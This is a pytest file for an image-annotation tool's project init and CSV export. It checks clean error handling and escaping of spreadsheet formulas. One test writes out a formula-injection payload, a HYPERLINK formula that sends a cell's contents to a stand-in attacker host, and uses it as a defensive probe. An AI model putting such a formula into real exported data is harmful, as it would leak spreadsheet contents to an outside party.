"""Careless input to ``project init`` and ``export``: one error line, nothing left behind; and
an export a spreadsheet cannot be tricked into running."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from medactive.annotate.labelfiles import export_csv
from medactive.annotate.project import init_from_folder
from medactive.annotate.store import ProjectStore
from medactive.cli import main
from medactive.errors import StoreError

BLOOD_NAMES = ["c0", "c1", "c2", "c3", "c4", "c5", "c6"]  # + one more below: 8 classes


def _error_line(capsys, needle: str) -> None:
    err = capsys.readouterr().err
    assert "Traceback" not in err and needle in err and len(err.strip().splitlines()) == 1, err


@pytest.mark.parametrize("names, needle", [
    ("unsure," + ",".join(BLOOD_NAMES), "reserved"),
    ("c0," + ",".join(BLOOD_NAMES), "unique"),
])
def test_npz_bad_class_names_leave_nothing(tmp_path, bloodmnist_path, capsys, names, needle):
    proj = tmp_path / "blood"
    assert main(["project", "init", str(proj), "--from-npz", str(bloodmnist_path),
                 "--limit", "5", "--classes", names]) == 2
    _error_line(capsys, needle)
    assert not proj.exists()  # no exported PNGs left behind


def test_npz_failure_after_export_cleans_up(tmp_path, bloodmnist_path, monkeypatch, capsys):
    def broken(self, rows):
        raise StoreError("disk full (simulated)")

    monkeypatch.setattr(ProjectStore, "add_images", broken)
    existing = tmp_path / "mine"
    existing.mkdir()
    (existing / "notes.txt").write_text("the user's")
    assert main(["project", "init", str(existing), "--from-npz", str(bloodmnist_path),
                 "--limit", "5"]) == 2
    _error_line(capsys, "disk full")
    # what init wrote is gone; the folder the user already had (and its files) stays
    assert sorted(p.name for p in existing.iterdir()) == ["notes.txt"]


@pytest.mark.parametrize("size", ["0", "-3", "7", "5000"])
def test_image_size_out_of_range(tmp_path, image_folder, capsys, size) -> None:
    proj = tmp_path / "p"
    assert main(["project", "init", str(proj), "--images", str(image_folder), "--classes", "a,b",
                 "--image-size", size]) == 2
    _error_line(capsys, "--image-size must be between 8 and 1024")
    assert not proj.exists()


def test_init_where_dir_is_a_file(tmp_path, image_folder, capsys) -> None:
    target = tmp_path / "a-file"
    target.write_text("not a folder")
    assert main(["project", "init", str(target), "--images", str(image_folder),
                 "--classes", "a,b"]) == 2
    _error_line(capsys, "is a file, not a folder")
    assert target.read_text() == "not a folder"


def test_export_to_missing_folder_or_a_folder(project: ProjectStore, tmp_path, capsys) -> None:
    project.record(project.images()[0].id, "benign", "a")
    assert main(["project", "export", str(project.dir), "-o",
                 str(tmp_path / "missing" / "out.csv")]) == 2
    _error_line(capsys, "does not exist")
    assert main(["project", "export", str(project.dir), "-o", str(tmp_path)]) == 2
    _error_line(capsys, "is a folder")


def test_export_escapes_formulas_and_imports_back(tmp_path: Path) -> None:
    folder = tmp_path / "imgs"
    folder.mkdir()
    names = ["=cmd.png", "+sum.png", "-neg.png", "@at.png", "plain.png"]
    for k, name in enumerate(names):
        Image.fromarray(np.full((8, 8, 3), k * 40, np.uint8)).save(folder / name)
    hostile = '=HYPERLINK("http://attacker.example/?d="&A1,"click")'
    out = tmp_path / "labels.csv"
    with init_from_folder(tmp_path / "p", folder, ["=bad", "good"]) as store:
        for k, img in enumerate(store.images()):
            store.record(img.id, ["=bad", "good"][k % 2], hostile if k % 2 == 0 else "@dr")
        exported = export_csv(store, out)
        before = {(a.uid, a.class_idx) for a in store.current_answers().values()}
    with out.open(newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    for cell in cells:  # nothing a spreadsheet would evaluate
        assert not cell.startswith(("=", "+", "-", "@")), cell
    assert f"'{hostile}" in cells and "'=cmd.png" in cells and "'@dr" in cells
    assert {r["image_id"] for r in exported} == set(names)  # the returned rows are unescaped
    with init_from_folder(tmp_path / "q", folder, ["=bad", "good"], labels_csv=out) as fresh:
        assert {(a.uid, a.class_idx) for a in fresh.current_answers().values()} == before
